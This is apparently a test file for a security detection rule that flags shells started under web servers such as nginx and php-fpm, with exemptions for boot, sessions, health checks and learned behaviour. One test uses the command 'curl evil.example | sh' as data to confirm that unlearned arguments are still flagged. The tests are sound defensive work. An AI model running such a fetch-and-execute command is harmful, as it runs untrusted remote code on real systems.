import { expect, test } from 'vitest';
import { codeSighting, execSighting, hour, testStart } from '../../testing.ts';
import { allowLineOf, learnedModel, modelHolding, objectionOf } from '../testing.ts';
import { shellFromServer } from './index.ts';

const sh = '/bin/sh';
const nginx = '/usr/sbin/nginx';
const words = { argv: ['sh', '-c', 'id'] };

test.each([
  ['a web server', execSighting(sh, nginx, words)],
  ['a server with a version in its name', execSighting('/bin/bash', '/usr/sbin/php-fpm8.2', words)],
  [
    "Java's starter, behind which Java is",
    execSighting(sh, '/opt/java/lib/jspawnhelper', { ...words, ancestors: [{ path: '/opt/java/bin/java' }] }),
  ],
  ['a server, as an applet', execSighting('/bin/busybox', nginx, words)],
  ['a server, and was killed', execSighting(sh, nginx, { ...words, verdict: 'killed', reason: 'unlearned' })],
] as const)('objects to a shell below %s', (_, sighting) => {
  expect(objectionOf(shellFromServer, sighting)).toMatchObject({ severity: 'high', technique: 'T1059.004' });
});

test.each([
  ['below a shell', execSighting(sh, '/bin/bash', words)],
  ['below an ordinary program', execSighting(sh, '/usr/bin/make', words)],
  ['while the container starts', execSighting(sh, nginx, { ...words, phase: 'boot' })],
  ['in a session', execSighting(sh, nginx, { ...words, session: 'exec' })],
  ['in a health check', execSighting(sh, nginx, { ...words, session: 'health-check' })],
  ['as a script of the image, as CGI is', execSighting(sh, nginx, { isScript: true, given: '/usr/lib/cgi-bin/a.cgi' })],
  ['below a launcher alone', execSighting(sh, '/usr/bin/env', { ...words, ancestors: [{ path: '/bin/bash' }] })],
] as const)('does not object to a shell %s', (_, sighting) => {
  expect(objectionOf(shellFromServer, sighting)).toBeUndefined();
});

test('does not object to another program below a server, nor to code that it reads', () => {
  expect(objectionOf(shellFromServer, execSighting('/usr/bin/id', nginx))).toBeUndefined();
  expect(objectionOf(shellFromServer, codeSighting(nginx, '/tmp/a.sh'))).toBeUndefined();
});

test('is allowed with these words alone', () => {
  const known = execSighting(sh, nginx, words);
  expect(allowLineOf(known)).toMatch(/^allow \/bin\/sh by=\/usr\/sbin\/nginx args="sh -c \{code:[0-9a-f]{12}\}"$/u);
  const index = modelHolding(known);
  expect(objectionOf(shellFromServer, known, { index })).toBeUndefined();
  const other = execSighting(sh, nginx, { argv: ['sh', '-c', 'curl evil.example | sh'] });
  expect(objectionOf(shellFromServer, other, { index })).toBeDefined();
});

test('what was seen on many days before is known, unless a person denied it', () => {
  const known = execSighting(sh, nginx, { ...words, time: testStart + 24 * 9 * hour });
  expect(objectionOf(shellFromServer, known, { index: learnedModel([known]) })).toBeUndefined();
  expect(objectionOf(shellFromServer, known, { index: modelHolding(known, { state: 'denied' }) })).toBeDefined();
});
